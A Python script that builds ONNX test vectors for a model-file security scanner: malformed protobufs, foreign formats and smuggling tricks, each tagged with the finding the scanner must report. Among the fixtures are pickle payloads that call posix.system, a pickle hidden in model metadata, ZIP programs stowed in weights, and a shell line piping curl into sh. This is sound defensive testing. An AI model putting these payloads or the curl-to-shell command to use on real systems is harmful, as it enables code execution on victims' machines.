"""Rebuilds ``tests/vectors/onnx``: one small model for each thing that can be wrong with a model, and an index.

    python tests/vectors/build_onnx.py

``index.json`` says for each file which codes the reader must report, or with which error it must refuse, and the
``findings`` that a report must have. Every file has one fault; where two codes are listed, the second is a consequence
of the first that cannot be avoided. Files that are in order are listed with no code.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import onnx_operators
import onnx_runs
from onnx import AttributeProto, ModelProto, NodeProto, TensorProto, TypeProto, helper, numpy_helper

HERE = Path(__file__).parent / "onnx"
FLOAT = TensorProto.FLOAT
VECTORS: dict[str, tuple[bytes, list[str], str]] = {}
JUDGED: dict[str, list[str]] = {}
"""What a policy says of models in which the reader finds no fault."""


def varint(number: int) -> bytes:
    out = b""
    while number > 127:
        out += bytes((number & 127 | 128,))
        number >>= 7
    return out + bytes((number,))


def field(number: int, payload: bytes) -> bytes:
    """A length-delimited field."""
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def number(field_number: int, value: int) -> bytes:
    return varint(field_number << 3) + varint(value)


def add(name: str, data: bytes | ModelProto, *codes: str, error: str = "") -> None:
    assert name not in VECTORS, name
    content = data if isinstance(data, bytes) else data.SerializeToString(deterministic=True)
    VECTORS[name] = (content, list(codes), error)


FINDINGS = {
    "onnx.empty": "MLS323",
    "onnx.magic.pickle": "MLS320",
    "onnx.magic.ort": "MLS322",
    "onnx.limit.depth": "MLS327",
    "onnx.limit.type_depth": "MLS327",
    **{
        f"onnx.magic.{name}": "MLS321"
        for name in ("zip", "gzip", "bzip2", "xz", "lzma", "zstd", "lz4", "zlib", "rar", "7z", "tar")
    },
}


def finding_of(error: str) -> str:
    """What a report must call a file that is refused with this error."""
    family = {"magic": "MLS324", "wire": "MLS325", "limit": "MLS326"}.get(error.split(".")[1], "")
    return FINDINGS.get(error) or family


def info(name: str, shape: list[int | str | None] | None = None, element: int = FLOAT):
    return helper.make_tensor_value_info(name, element, [2] if shape is None else shape)


def weight(name: str = "w", count: int = 2) -> TensorProto:
    return numpy_helper.from_array(np.arange(count, dtype=np.float32), name)


def model(
    nodes: list[NodeProto] | None = None,
    *,
    inputs: list | None = None,
    outputs: list | None = None,
    weights: list[TensorProto] | None = None,
    functions: list | None = None,
    opsets: list[tuple[str, int]] | None = None,
) -> ModelProto:
    graph = helper.make_graph(
        [helper.make_node("Add", ["x", "w"], ["y"])] if nodes is None else nodes,
        "g",
        [info("x")] if inputs is None else inputs,
        [info("y")] if outputs is None else outputs,
        [weight()] if weights is None else weights,
    )
    imports = [helper.make_opsetid(domain, version) for domain, version in opsets or [("", 17)]]
    out = helper.make_model(graph, opset_imports=imports, functions=functions or [], producer_name="vectors")
    out.ir_version = 8
    return out


def with_tensor(change: Callable[[TensorProto], None]) -> ModelProto:
    tensor = weight()
    change(tensor)
    return model(weights=[tensor])


def with_graph(extra: bytes) -> bytes:
    """The model with more fields at the end of its graph."""
    out = model()
    data = field(7, out.graph.SerializeToString(deterministic=True) + extra)
    out.ClearField("graph")
    return out.SerializeToString(deterministic=True) + data


def with_node(node: bytes) -> bytes:
    """The model whose one node is these bytes after its inputs and output."""
    out = model([])
    start = field(1, b"x") + field(1, b"w") + field(2, b"y")
    graph = field(1, start + node) + out.graph.SerializeToString(deterministic=True)
    out.ClearField("graph")
    return out.SerializeToString(deterministic=True) + field(7, graph)


def with_attribute(attribute: bytes) -> bytes:
    return with_node(field(4, b"Gemm") + field(5, attribute))


def with_type(kind: bytes) -> bytes:
    """The model with one more input ``z`` of this type."""
    return with_graph(field(11, field(1, b"z") + field(2, kind)))


def external(tensor: TensorProto, **entries: str) -> None:
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in entries.items():
        tensor.external_data.add(key=key, value=value)


def good() -> None:
    add("good", model())
    add("good_initializer_is_input", model(inputs=[info("x"), info("w")]))
    add("good_external", with_tensor(lambda t: external(t, location="w.bin", offset="0", length="8")))
    add("good_domain_spelled_out", model(opsets=[("ai.onnx", 17)]))
    add("good_same_import_twice", model(opsets=[("", 17), ("", 17)]))
    add("good_function", calling(function("F", [helper.make_node("Relu", ["a"], ["b"])])))
    add("good_proto3_zero_left_out", with_attribute(field(1, b"alpha") + number(20, AttributeProto.FLOAT)))
    add("good_old_minus_one_dimension", model(inputs=[info("x", [-1])]))
    add("good_if", model([branch("c", inner="w")], inputs=[info("c", [], TensorProto.BOOL)]))
    add("good_packed_dims", with_graph(field(5, field(1, b"\x01\x02") + number(2, 1) + field(8, b"v") + field(9, bytes(8)))))
    device = field(10, field(1, b"c") + field(2, field(1, b"x") + field(3, number(1, 1)) + field(4, field(2, number(1, 1)))))
    add("good_every_message", every_message())
    empty = helper.make_tensor("empty", FLOAT, [0, 3], [])
    producer = model()
    producer.producer_name = "ORTModule"
    add("good_producer_like_a_flatbuffer", producer)
    add("good_empty_tensor", model(weights=[weight(), empty]))
    add("good_default_of_open_shape", model(inputs=[info("x"), info("w", ["k"])]))
    add("good_denotation", with_type(field(6, b"IMAGE") + field(1, number(1, 1) + field(2, b""))))
    add("good_device_configuration", with_node(field(4, b"Add") + device))


def every_message() -> bytes:
    """A model in order with every message that the other vectors do not have."""
    then = helper.make_graph([helper.make_node("Identity", ["a"], ["t"])], "d", [], [info("t")])
    inner = function("F", [helper.make_node("Relu", ["a"], ["b"])])
    inner.attribute_proto.add(name="body", type=AttributeProto.GRAPH).g.CopyFrom(then)
    inner.attribute_proto.add(name="w", type=AttributeProto.TENSOR).t.CopyFrom(weight())
    inner.value_info.append(info("b"))
    inner.metadata_props.add(key="k", value="v")
    tensor = weight()
    tensor.metadata_props.add(key="k", value="v")
    typed = helper.make_node("Optional", [], ["o"], type=info("q").type)
    out = model(
        [
            helper.make_node("F", ["x"], ["y"], domain="own"),
            helper.make_node("Dropout", ["x"], ["n", ""]),
            helper.make_node("LSTM", ["x", "w", "w", "", "w"], ["", "h", ""], hidden_size=1),
            typed,
        ],
        weights=[tensor],
        functions=[inner],
        opsets=[("", 17), ("own", 1)],
    )
    out.graph.value_info.append(info("n"))
    out.graph.quantization_annotation.add(tensor_name="x").quant_parameter_tensor_names.add(key="SCALE_TENSOR", value="w")
    out.graph.node[0].metadata_props.add(key="k", value="v")
    device = out.graph.node[1].device_configurations.add(configuration_id="c")
    sharding = device.sharding_spec.add(tensor_name="x", device=[0, 1])
    sharding.index_to_device_group_map.add(key=-1, value=[0, 1])
    sharding.sharded_dim.add(axis=0).simple_sharding.add(dim_value=2, num_shards=2)
    out.configuration.add(name="c", num_devices=2, device=["cpu:0", "cpu:1"])
    return out.SerializeToString(deterministic=True)


def branch(condition: str, *, inner: str = "w", made: str = "t") -> NodeProto:
    body = helper.make_graph([helper.make_node("Identity", [inner], [made])], "b", [], [info(made)])
    other = helper.make_graph([helper.make_node("Identity", ["w"], [f"{made}2"])], "b2", [], [info(f"{made}2")])
    return helper.make_node("If", [condition], ["y"], then_branch=body, else_branch=other)


def function(name: str, nodes: list[NodeProto], *, domain: str = "own", opsets: list[tuple[str, int]] | None = None):
    imports = [helper.make_opsetid(d, v) for d, v in opsets or [("", 17), ("own", 1)]]
    return helper.make_function(domain, name, ["a"], ["b"], nodes, imports)


def calling(*functions, name: str = "F", domain: str = "own") -> ModelProto:
    node = helper.make_node(name, ["x"], ["y"], domain=domain)
    return model([node], functions=list(functions), opsets=[("", 17), ("own", 1)])


def other_formats() -> None:
    add("empty", b"", error="onnx.empty")
    call = b"\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R."
    text_call = b"cposix\nsystem\n(S'true'\ntR."
    add("pickle", b"\x80\x04" + call, error="onnx.magic.pickle")
    add("pickle_without_header", call, error="onnx.magic.pickle")
    add("pickle_protocol_0", text_call, error="onnx.magic.pickle")
    add("pickle_protocol_0_object", b"(iposix\nsystem\np0\n.", error="onnx.magic.pickle")
    add("pickle_protocol_0_data", b"(dp0\nVscale\np1\nF1.5\nsVweights\np2\n(lp3\nI1\naI2\nas.", error="onnx.magic.pickle")
    add("pickle_protocol_1", b"}q\0(U\x05scaleq\1G" + bytes(8) + b"U\x01wq\2]q\3(K\1K\2eu.", error="onnx.magic.pickle")
    add("pickle_with_more_behind", text_call + bytes(64), error="onnx.magic.pickle")
    old = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03."
    add("pickle_of_old_pytorch", old + b"\x80\x02" + text_call, error="onnx.magic.pickle")
    # Behind the model version and a list of metadata stands a pickle: None, PUT, then the call.
    key = b"\x01" + text_call
    both = b"(N" + field(14, field(1, key.ljust(40, b" ")))
    add("pickle_and_model", both + model().SerializeToString(deterministic=True), error="onnx.magic.pickle")
    # The same, but between the two the pickle has bytes that it skips, and that are the start of the next key.
    both = b"(N" + field(14, field(1, b"\1B" + (0x810).to_bytes(4, "little")))
    both += field(14, field(1, b"-" * (0x810 - 6) + text_call))
    add("pickle_and_model_far_in", both + model().SerializeToString(deterministic=True), error="onnx.magic.pickle")
    sklearn = b"\x80\x04\x95" + bytes((60, *bytes(7))) + b"\x8c\x10sklearn.pipeline\x94\x8c\x08Pipeline\x94\x93\x94)\x81\x94."
    add("pickle_of_scikit_learn", sklearn, error="onnx.magic.pickle")
    add("pickle_of_xgboost_protocol_0", b"cxgboost.core\nBooster\np0\n)\x81.", error="onnx.magic.pickle")
    add("xgboost_json", b'{"learner":{"attributes":{},"feature_names":[]},"version":[3,2,0]}', error="onnx.magic.xgboost")
    add("xgboost_ubjson", b"{L" + bytes(7) + b"\x07learner{}}", error="onnx.magic.xgboost")
    base = b"binf\0\0\0?" + bytes(132)
    add("xgboost_binary", base + b"\x0f" + bytes(7) + b"binary:logistic", error="onnx.magic.xgboost")
    add("lightgbm_text", b"tree\nversion=v4\nnum_class=1\n", error="onnx.magic.lightgbm")
    add("catboost", b"CBM1\xc8\x01\0\0" + bytes(24), error="onnx.magic.catboost")
    add("catboost_json", b'{\n"features_info":\n{}}\n', error="onnx.magic.catboost")
    add("r_value", b"X\n\0\0\0\3\0\4\2\2" + bytes(16), error="onnx.magic.r")
    frozen = field(1, field(1, b"x") + field(2, b"Placeholder") + field(5, bytes(40)))
    add("tensorflow_frozen_graph", frozen, error="onnx.magic.tensorflow")
    add("zip", b"PK\x03\x04" + bytes(26), error="onnx.magic.zip")
    add("zip_empty", b"PK\x05\x06" + bytes(18), error="onnx.magic.zip")
    add(
        "zip_of_pytorch",
        archive({"archive/data.pkl": b"\x80\x02" + text_call, "archive/version": b"3\n"}),
        error="onnx.magic.zip",
    )
    torchscript = {"m/data.pkl": b"\x80\x02N.", "m/code/__torch__.py": b"", "m/constants.pkl": b"\x80\x02)."}
    add("zip_of_torchscript", archive(torchscript), error="onnx.magic.zip")
    add(
        "zip_of_numpy",
        archive({"w.npy": b"\x93NUMPY\1\0\x36\0{'descr': '<f4', 'fortran_order': False, 'shape': (0,)}\n"}),
        error="onnx.magic.zip",
    )
    add("zip_of_keras", archive({"metadata.json": b'{"keras_version": "3.0.0"}', "config.json": b"{}"}), error="onnx.magic.zip")
    add("zip_of_a_model", archive({"model.onnx": model().SerializeToString(deterministic=True)}), error="onnx.magic.zip")
    # Models that run, with weights that the next tool opens as an archive.
    program = archive({"__main__.py": b"print('hello')\n"})
    for name, hidden in (
        ("zip_in_the_weights", program),
        ("zip_in_the_weights_with_a_comment", program[:-2] + b"\xff\xff"),
        ("zip_in_the_weights_behind_others", b"PK\x05\x06" * 8 + program + b"PK\x05\x06" * 8),
    ):
        two = weight()
        stowaway = TensorProto(name="unused", data_type=TensorProto.UINT8, dims=[len(hidden)], raw_data=hidden)
        add(name, model(weights=[two, stowaway]), error="onnx.magic.zip")
    add("ort_flatbuffer", b"\x1c\x00\x00\x00ORTM" + bytes(24), error="onnx.magic.ort")
    add("tflite", b"\x1c\x00\x00\x00TFL3" + bytes(24), error="onnx.magic.tflite")
    add("executorch", b"\x1c\x00\x00\x00ET12" + bytes(24), error="onnx.magic.executorch")
    add("hdf5", b"\x89HDF\r\n\x1a\n" + bytes(24), error="onnx.magic.hdf5")
    add("gzip", b"\x1f\x8b\x08\x00" + bytes(24), error="onnx.magic.gzip")
    add("bzip2", b"BZh91AY&SY" + bytes(24), error="onnx.magic.bzip2")
    add("bzip2_empty", b"BZh9\x17rE8P\x90" + bytes(4), error="onnx.magic.bzip2")
    add("xz", b"\xfd7zXZ\0\0\x04" + bytes(24), error="onnx.magic.xz")
    add("lzma", b"\x5d\0\0\x80\0" + b"\xff" * 8 + bytes(24), error="onnx.magic.lzma")
    add("zstd", b"\x28\xb5\x2f\xfd\x20\x08" + bytes(24), error="onnx.magic.zstd")
    add("lz4", b"\x04\x22\x4d\x18\x64\x40" + bytes(24), error="onnx.magic.lz4")
    packed = bytes.fromhex(
        "785e6b604e2ec82fceace02aae2c2e49cde5d208562f292a4d55e72a09d203008f64095a"
    )  # a pickle; other builds of zlib would write it in another way
    add("zlib", packed, error="onnx.magic.zlib")
    add("rar", b"Rar!\x1a\x07\x01\x00" + bytes(24), error="onnx.magic.rar")
    add("7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24), error="onnx.magic.7z")
    add("tar", b"model.onnx".ljust(257, b"\0") + b"ustar\x0000", error="onnx.magic.tar")
    header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    add("safetensors", len(header).to_bytes(8, "little") + header + bytes(8), error="onnx.magic.safetensors")
    long_header = header.ljust(0x812)  # 12 08 as bytes: the tag of a name and its length, were it a model
    add("safetensors_like_a_model", (0x812).to_bytes(8, "little") + long_header + bytes(8), error="onnx.magic.safetensors")
    short_header = header.ljust(0x80)  # as a length, the first byte of a pickle and a protocol of one
    add("safetensors_like_a_pickle", (0x80).to_bytes(8, "little") + short_header + bytes(8), error="onnx.magic.safetensors")
    add("gguf", b"GGUF\x03\0\0\0" + bytes(16), error="onnx.magic.gguf")
    add("numpy", b"\x93NUMPY\1\0\x36\0{'descr': '<f4', 'fortran_order': False, 'shape': (0,)}\n", error="onnx.magic.numpy")
    description = field(1, field(1, b"x") + field(3, field(5, b""))) + field(100, field(1, b"a model" * 100))
    add("core_ml", number(1, 5) + field(2, description) + field(500, field(1, b"")), error="onnx.magic.coreml")
    updatable = number(1, 5) + field(2, b"") + number(10, 1) + field(3000, b"")
    add("core_ml_updatable", updatable, error="onnx.magic.coreml")
    add("tensorflow_saved_model", number(1, 1) + field(2, field(1, b"") + field(2, bytes(300))), error="onnx.magic.tensorflow")
    add("tensorrt", b"ptrt" + bytes(28), error="onnx.magic.tensorrt")
    add("java", b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap", error="onnx.magic.java")
    add("r_workspace", b"RDX3\nX\n" + bytes(12), error="onnx.magic.r")
    add("executable", b"\x7fELF\x02\x01\x01" + bytes(57), error="onnx.magic.executable")
    add("executable_of_windows", b"MZ".ljust(60, b"\0") + b"\x80\0\0\0" + bytes(64), error="onnx.magic.executable")
    add("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", error="onnx.magic.pdf")
    add("git_lfs_pointer", b"version https://git-lfs.github.com/spec/v1\noid sha256:00\n", error="onnx.magic.git_lfs")
    pmml = '<?xml version="1.0" encoding="{}"?>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"/>\n'
    add("pmml", pmml.format("UTF-8").encode(), error="onnx.magic.xml")
    add("pmml_utf_16", b"\xff\xfe" + pmml.format("UTF-16").encode("utf-16-le"), error="onnx.magic.xml")
    add("json", b'{"irVersion": "8"}', error="onnx.magic.text")
    add("textual_onnx", b"<\n  ir_version: 8\n>\n", error="onnx.magic.text")
    add("script", b"#!/bin/sh\ncurl example.org | sh\n", error="onnx.magic.text")
    add("text_not_english", "Über das Modell: 模型\n".encode() * 40, error="onnx.magic.text")
    add("bytes_without_meaning", bytes(range(250, 127, -1)), error="onnx.wire.varint")


def archive(members: dict[str, bytes]) -> bytes:
    """A ZIP archive without compression and without the time."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        for name, content in members.items():
            member = zipfile.ZipInfo(name)
            member.create_system = 3
            file.writestr(member, content)
    return out.getvalue()


def wire() -> None:
    data = model().SerializeToString(deterministic=True)
    add("truncated", data[:-1], error="onnx.wire.truncated")
    add("truncated_in_half", data[: len(data) // 2], error="onnx.wire.truncated")
    add("trailing_zero", data + b"\0", error="onnx.wire.field_number")
    add("trailing_text", data + b"\n\n", error="onnx.wire.truncated")
    add("field_number_zero", data + field(0, b"x"), error="onnx.wire.field_number")
    add("field_number_too_large", data + number(2**29, 1), error="onnx.wire.field_number")
    for wire_type in (3, 4, 6, 7):
        add(f"wire_type_{wire_type}", data + bytes((9 << 3 | wire_type,)), error="onnx.wire.type")
    add("varint_not_shortest", data + b"\x28\x80\x00", error="onnx.wire.varint")
    add("varint_eleven_bytes", data + b"\x28" + b"\xff" * 10 + b"\x01", error="onnx.wire.varint")
    add("varint_above_64_bits", data + b"\x28" + b"\xff" * 9 + b"\x02", error="onnx.wire.varint")
    add("varint_cut_off", data + b"\x28\xff", error="onnx.wire.truncated")
    add("tag_not_shortest", data + b"\xa8\x00\x01", error="onnx.wire.varint")
    add("length_past_end", with_graph(b"\x52\x7f"), error="onnx.wire.truncated")
    add("node_tag_without_length", with_node(field(4, b"Add") + b"\x1a"), error="onnx.wire.truncated")
    add("fixed_past_end", with_attribute(field(1, b"alpha") + b"\x15\0\0"), error="onnx.wire.truncated")
    add("wrong_wire_type", with_graph(number(2, 1)), error="onnx.wire.field_type")
    add("element_type_above_32_bits", with_graph(field(5, number(2, 2**32 + 1))), error="onnx.wire.range")
    add("unknown_field_in_model", data + number(99, 1), "MLS330")
    add("unknown_field_in_graph", with_graph(field(77, b"x")), "MLS330")
    add("unknown_field_in_node", with_node(field(4, b"Add") + number(16, 1)), "MLS330")
    add(
        "unknown_field_in_attribute", with_attribute(field(1, b"transA") + number(3, 1) + number(20, 2) + number(16, 1)), "MLS330"
    )
    add("unknown_field_in_metadata", data + field(14, field(1, b"k") + field(3, b"v")), "MLS330")
    add("two_graphs", data + field(7, model().graph.SerializeToString(deterministic=True)), "MLS331")
    add("two_operator_types", with_node(field(4, b"Add") + field(4, b"Sub")), "MLS331")
    add("two_ir_versions", data + number(1, 7), "MLS331")
    add("many_ir_versions", data + number(1, 8) * 40, "MLS331")
    add(
        "dims_packed_and_not",
        with_graph(field(5, number(1, 1) + field(1, b"\x02") + number(2, 1) + field(8, b"v") + field(9, bytes(8)))),
        "MLS331",
    )
    add(
        "dimension_number_and_symbol",
        with_type(field(1, number(1, 1) + field(2, field(1, number(1, 2) + field(2, b"n"))))),
        "MLS331",
    )
    add("invalid_utf8_name", with_node(field(4, b"Add") + field(3, b"\xff\xfe")), "MLS332")
    add("invalid_utf8_doc", with_graph(field(10, b"\xc3\x28")), "MLS332")
    add("invalid_utf8_cut_off", with_graph(field(10, b"\xe2\x82")), "MLS332")


def top_level() -> None:
    bare = model()
    bare.ClearField("ir_version")
    add("no_ir_version", bare, "MLS333")
    newer = model()
    newer.ir_version = 15
    add("ir_version_too_new", newer, "MLS333")
    bare = model()
    bare.ClearField("graph")
    add("no_graph", bare, "MLS334")
    add("opset_two_versions", model(opsets=[("", 17), ("", 18)]), "MLS335")
    add("opset_two_spellings", model(opsets=[("", 17), ("ai.onnx", 18)]), "MLS335")
    add("opset_version_zero", model(opsets=[("", 17), ("own", 0)]), "MLS335")
    add("domain_not_imported", model([helper.make_node("Add", ["x", "w"], ["y"], domain="com.microsoft")]), "MLS336")
    training = model()
    training.training_info.add().algorithm.CopyFrom(
        helper.make_graph([helper.make_node("Sub", ["w", "w"], ["d"])], "a", [info("w")], [info("d")])
    )
    add("training_info", training, "MLS337")
    for name, key in (
        ("ort_config", "ort_config"),
        ("session_key", "session.load_model_format"),
        ("ep_key", "ep.context_file_path"),
    ):
        configured = model()
        configured.metadata_props.add(key=key, value="{}")
        add(f"runtime_{name}", configured, "MLS338")
    repeated = model()
    for value in ("1", "2"):
        repeated.metadata_props.add(key="k", value=value)
    add("metadata_key_twice", repeated, "MLS339")


def nodes() -> None:
    name, whole = field(1, b"alpha"), field(1, b"transA")
    add("attribute_two_values", with_attribute(name + b"\x15\0\0\x80\x3f" + number(3, 1) + number(20, 1)), "MLS340")
    add("attribute_other_type", with_attribute(name + number(3, 1) + number(20, 1)), "MLS340")
    add("attribute_no_type", with_attribute(whole + number(3, 1)), "MLS340", "MLS373")
    add("attribute_unknown_type", with_attribute(whole + number(3, 1) + number(20, 99)), "MLS340", "MLS373")
    add("attribute_no_graph", with_attribute(whole + number(20, 5)), "MLS340", "MLS373")
    add("attribute_no_name", with_attribute(number(3, 1) + number(20, 2)), "MLS341")
    one = whole + number(3, 1) + number(20, 2)
    add("attribute_name_twice", with_node(field(4, b"Gemm") + field(5, one) + field(5, one)), "MLS341")
    add("operator_without_name", with_node(b""), "MLS342", "MLS371")
    add("operator_name_with_colon", with_node(field(4, b"a:b")), "MLS342", "MLS371")
    add("function_name_with_colon", model(functions=[function("a:b", [helper.make_node("Relu", ["a"], ["b"])])]), "MLS342")
    add("packed_integers_cut_off", with_attribute(name + field(8, b"\x01\x80") + number(20, 7)), error="onnx.wire.truncated")
    add(
        "packed_integer_too_long", with_attribute(name + field(8, b"\x80" * 10 + b"\0") + number(20, 7)), error="onnx.wire.varint"
    )
    add("packed_floats_cut_off", with_attribute(name + field(7, bytes(6)) + number(20, 6)), error="onnx.wire.truncated")
    add("attribute_reference_outside", with_attribute(name + number(20, 1) + field(21, b"beta")), "MLS343")
    add("initializer_twice", model(weights=[weight(), weight()]), "MLS344")
    add("initializer_unnamed", model(weights=[weight(), weight("")]), "MLS344")
    add("input_twice", model(inputs=[info("x"), info("x")]), "MLS344")
    add("output_twice", model(outputs=[info("y"), info("y")]), "MLS344")
    add_node = helper.make_node("Add", ["x", "w"], ["y"])
    add("value_made_twice", model([add_node, add_node]), "MLS344")
    add("value_replaces_input", model([helper.make_node("Relu", ["w"], ["x"]), add_node]), "MLS344")
    add("used_before_made", model([helper.make_node("Relu", ["a"], ["y"]), helper.make_node("Relu", ["x"], ["a"])]), "MLS345")
    add(
        "circle",
        model([helper.make_node("Add", ["x", "b"], ["a"]), helper.make_node("Add", ["a", "w"], ["b"]), add_node]),
        "MLS345",
    )
    add("node_feeds_itself", model([helper.make_node("Add", ["x", "y"], ["y"])]), "MLS345")
    add("never_made", model([helper.make_node("Add", ["x", "nothing"], ["y"])]), "MLS345")
    add("output_never_made", model(outputs=[info("y"), info("nothing")]), "MLS345")
    add(
        "subgraph_name_escapes", model([branch("c"), helper.make_node("Relu", ["t"], ["u"])], inputs=[info("c", [], 9)]), "MLS345"
    )
    add("subgraph_hides_name", model([branch("c", made="w")], inputs=[info("c", [], 9)]), "MLS346")
    add("initializer_other_shape", model(inputs=[info("x"), info("w", [3])]), "MLS347")
    add("initializer_other_type", model(inputs=[info("x"), info("w", [2], TensorProto.INT64)]), "MLS347")
    untyped = model()
    untyped.graph.input[0].ClearField("type")
    add("input_without_type", untyped, "MLS348")
    add("reserved_field_12", with_attribute(one + number(12, 1)), "MLS330")


def functions() -> None:
    relu = helper.make_node("Relu", ["a"], ["b"])
    add("function_twice", calling(function("F", [relu]), function("F", [relu])), "MLS350")
    for slug, domain in (
        ("standard", ""),
        ("standard_spelled_out", "ai.onnx"),
        ("ml", "ai.onnx.ml"),
        ("microsoft", "com.microsoft.nchwc"),
    ):
        shadow = function("Relu", [helper.make_node("Neg", ["a"], ["b"])], domain=domain)
        add(f"function_shadows_{slug}", model(functions=[shadow]), "MLS351")
    own = helper.make_node("F", ["a"], ["b"], domain="own")
    add("function_recursive", calling(function("F", [own])), "MLS352")
    to_g = function("F", [helper.make_node("G", ["a"], ["b"], domain="own")])
    to_f = function("G", [own])
    add("functions_recursive_together", calling(to_g, to_f), "MLS352")
    add("function_recursive_unused", model(functions=[function("F", [own])]), "MLS352")

    def doubling(level: int):
        inner = f"F{level - 1}" if level else "Relu"
        domain = "own" if level else ""
        calls = [helper.make_node(inner, ["a"], [f"v{i}"], domain=domain) for i in range(9)]
        return function(f"F{level}", [*calls, helper.make_node("Identity", ["v0"], ["b"])])

    add("function_expansion", calling(*[doubling(level) for level in range(30)], name="F29"), "MLS353")
    add(
        "function_domain_not_imported",
        calling(function("F", [helper.make_node("Scaler", ["a"], ["b"], domain="ai.onnx.ml", offset=[0.0], scale=[1.0])])),
        "MLS336",
    )
    add("function_output_never_made", calling(function("F", [helper.make_node("Relu", ["a"], ["c"])])), "MLS345")
    sees_outside = function("F", [helper.make_node("Add", ["a", "w"], ["b"])])
    add("function_sees_outside", calling(sees_outside), "MLS345")
    twice = function("F", [relu])
    twice.input.append("a")
    inner = helper.make_graph([helper.make_node("Identity", ["nothing"], ["t"])], "d", [], [info("t")])
    hiding = function("F", [relu])
    hiding.attribute_proto.add(name="body", type=AttributeProto.GRAPH).g.CopyFrom(inner)
    add("function_default_never_made", calling(hiding), "MLS345")
    add("function_input_twice", calling(twice), "MLS344")


def tensors() -> None:
    def payload(tensor: TensorProto, **values) -> None:
        tensor.ClearField("raw_data")
        for key, value in values.items():
            (getattr(tensor, key).extend if isinstance(value, list) else lambda v, k=key: setattr(tensor, k, v))(value)

    add("raw_data_short", with_tensor(lambda t: payload(t, raw_data=bytes(7))), "MLS355")
    add("raw_data_long", with_tensor(lambda t: payload(t, raw_data=bytes(9))), "MLS355")
    add("no_payload", with_tensor(payload), "MLS355")
    add("float_data_short", with_tensor(lambda t: payload(t, float_data=[1.0])), "MLS355")
    add("int64_data_long", with_tensor(lambda t: payload(t, data_type=7, int64_data=[1, 2, 300])), "MLS355")
    add("int4_data_short", with_tensor(lambda t: payload(t, data_type=22, dims=[3], int32_data=[1])), "MLS355")
    add("string_data_short", with_tensor(lambda t: payload(t, data_type=8, string_data=[b"a"])), "MLS355")
    packed = number(1, 2) + number(2, 1) + field(8, b"v") + field(4, bytes(7))
    add("float_data_not_whole", with_graph(field(5, packed)), "MLS355")
    add("two_payloads", with_tensor(lambda t: t.float_data.extend([1.0, 2.0])), "MLS356")
    add("payload_of_other_type", with_tensor(lambda t: payload(t, int64_data=[1, 2])), "MLS356")
    add("external_and_raw", with_tensor(lambda t: (external(t, location="w.bin"), setattr(t, "raw_data", bytes(8)))), "MLS356")
    add("negative_dimension", with_tensor(lambda t: t.dims.__setitem__(0, -2)), "MLS357")
    add("overflowing_dimensions", with_tensor(lambda t: t.dims.extend([2**40, 2**40])), "MLS357")
    add("overflow_hidden_by_zero", with_tensor(lambda t: t.dims.extend([2**62, 2**62, 0])), "MLS357")
    add("dimension_of_type_negative", model(inputs=[info("x", [-2])]), "MLS357")
    add("element_type_zero", with_tensor(lambda t: setattr(t, "data_type", 0)), "MLS358")
    add("element_type_unknown", with_tensor(lambda t: setattr(t, "data_type", 99)), "MLS358")
    add("element_type_of_input_unknown", with_type(field(1, number(1, 99))), "MLS358")
    add("strings_in_raw_data", with_tensor(lambda t: setattr(t, "data_type", 8)), "MLS359")
    add("strings_in_other_file", with_tensor(lambda t: (external(t, location="w.bin"), setattr(t, "data_type", 8))), "MLS359")
    add(
        "location_without_entries",
        with_tensor(lambda t: (t.ClearField("raw_data"), setattr(t, "data_location", 1))),
        "MLS360",
        "MLS361",
    )
    add(
        "entries_without_location",
        with_tensor(lambda t: (external(t, location="w.bin"), t.ClearField("data_location"))),
        "MLS360",
    )
    add(
        "data_location_unknown",
        with_graph(field(5, number(1, 1) + number(2, 1) + field(8, b"v") + field(9, bytes(4)) + number(14, 7))),
        "MLS356",
        "MLS360",
        "MLS361",
    )
    add("external_unknown_key", with_tensor(lambda t: external(t, location="w.bin", basepath="/etc")), "MLS361")
    add(
        "external_key_twice",
        with_tensor(lambda t: (external(t, location="w.bin"), t.external_data.add(key="location", value="v.bin"))),
        "MLS361",
    )
    add("external_no_location", with_tensor(lambda t: external(t, offset="0")), "MLS361")
    add("external_offset_not_a_number", with_tensor(lambda t: external(t, location="w.bin", offset="0x10")), "MLS361")
    add("external_offset_negative", with_tensor(lambda t: external(t, location="w.bin", offset="-1")), "MLS361")
    add("external_length_too_large", with_tensor(lambda t: external(t, location="w.bin", length="9223372036854775808")), "MLS361")
    add(
        "external_memory_address",
        with_tensor(lambda t: external(t, location="*/_ORT_MEM_ADDR_/*", offset="4096", length="8")),
        "MLS362",
    )
    hidden = weight("v")
    external(hidden, location="w.bin")
    add(
        "external_in_attribute",
        model([helper.make_node("Constant", [], ["v"], value=hidden), helper.make_node("Add", ["x", "v"], ["y"])]),
        "MLS363",
    )
    add(
        "external_in_function",
        calling(function("F", [helper.make_node("Constant", [], ["v"], value=hidden), helper.make_node("Relu", ["a"], ["b"])])),
        "MLS363",
    )
    sparse = helper.make_sparse_tensor(hidden, helper.make_tensor("i", TensorProto.INT64, [2], [0, 1]), [4])
    out = model()
    out.graph.sparse_initializer.append(sparse)
    add("external_in_sparse", out, "MLS363")
    odd = TensorProto(name="spare", data_type=28, dims=[2], raw_data=bytes([0, 0xF0]))  # 12 of 16 bits
    add("bits_left_over", model(weights=[weight(), odd]), "MLS355")
    add("segment", with_tensor(lambda t: setattr(t.segment, "end", 2)), "MLS364")
    shapes = ("indices_short", [4], [1]), ("no_shape", [], [2]), ("indices_wide", [4, 4], [2, 3]), ("zero", [0], [0])
    for slug, dims, indices in shapes:
        count = int(np.prod(indices))
        tensor = helper.make_sparse_tensor(weight("v"), helper.make_tensor("i", TensorProto.INT64, indices, [0] * count), dims)
        out = model()
        out.graph.sparse_initializer.append(tensor)
        add(f"sparse_{slug}", out, "MLS365")
    add("sparse_without_indices", with_graph(field(15, field(1, weight("v").SerializeToString()))), "MLS344", "MLS365")


